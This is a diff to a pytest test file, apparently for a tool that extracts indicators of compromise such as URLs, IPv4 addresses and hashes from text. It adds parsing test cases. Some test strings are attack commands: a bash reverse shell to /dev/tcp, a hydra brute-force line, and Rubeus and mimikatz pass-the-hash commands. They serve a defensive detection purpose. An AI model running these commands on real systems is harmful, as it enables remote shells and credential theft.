@@ -61,6 +61,7 @@ def found(*texts: str) -> dict[str, list[str]]:
         ("hXXp[:]//example(dot)com/a", "http://example.com/a"),
         ("'ftp://example.net/a.bin'", "ftp://example.net/a.bin"),
         ("'https://example.com/?next=http://example.org/a'", "https://example.com/?next=http://example.org/a"),
+        (r'{"u":"http:\/\/example.com\/a","v":1}', "http://example.com/a"),
         ("'http://intranet/a.ps1'", "http://intranet/a.ps1"),
     ],
 )  # fmt: skip
@@ -194,11 +195,66 @@ def test_code_is_not_taken_for_domains(text: str) -> None:
         "1.3.6.1.4.1.311",
         "C:\\Packages\\Plugin\\1.29.45.0\\run.exe",
         "300.1.2.3",
+        "app-1.2.3.4.exe",
+        "a1.2.3.4",
+        "ver 1.2.3.4",
+        "version 1.2.3.4",
+        "-RequiredVersion '1.2.3.4'",
+        "Mozilla/5.0.0.1",
+        "Teams/1.2.3.4",
+        "Newtonsoft.Json/1.2.3.4",
+        "/opt/app/1.2.3.4/bin",
         "1.2.3",
     ],
 )
 def test_versions_are_not_taken_for_addresses(text: str) -> None:
     assert "ipv4" not in found(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "termsrv/{}",
+        "TERMSRV/{}",
+        "cifs/{}",
+        "http/{}",
+        "wsman/{}",
+        "bash -i >& /dev/tcp/{}/443 0>&1",
+        "mstsc /v:{}",
+        "mstsc /v {}",
+        "hydra -h{} -l x",
+        "net use \\\\{}\\ipc$",
+        "{}-{}",
+        '"a\\n{}"',
+    ],
+)
+def test_addresses_are_found_beside_services_and_options(text: str) -> None:
+    assert found(text.replace("{}", "192.0.2.1"))["ipv4"] == ["192.0.2.1"]
+
+
+@pytest.mark.parametrize(
+    "text", ["a::b", "12:30:45", "[System.IO.File]::x", "dead::beef", "00:11:22:33:44:55:66:77"]
+)
+def test_code_and_times_are_not_taken_for_addresses(text: str) -> None:
+    assert found(text) == {}
+
+
+_HASH = "d41d8cd98f00b204e9800998ecf8427e"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "MsiExec.exe -Embedding {} C",
+        "asktgt /user:x /rc4:{} /ptt",
+        "sekurlsa::pth /ntlm:{}",
+        "/aes256:{}{}",
+        "-hashes {}:{}",
+        "-hashes :{}",
+    ],
+)
+def test_hashes_of_passwords_are_none_of_files(text: str) -> None:
+    assert found(text.replace("{}", _HASH)) == {}
 
 
 def test_order_of_first_appearance_without_repetition() -> None:
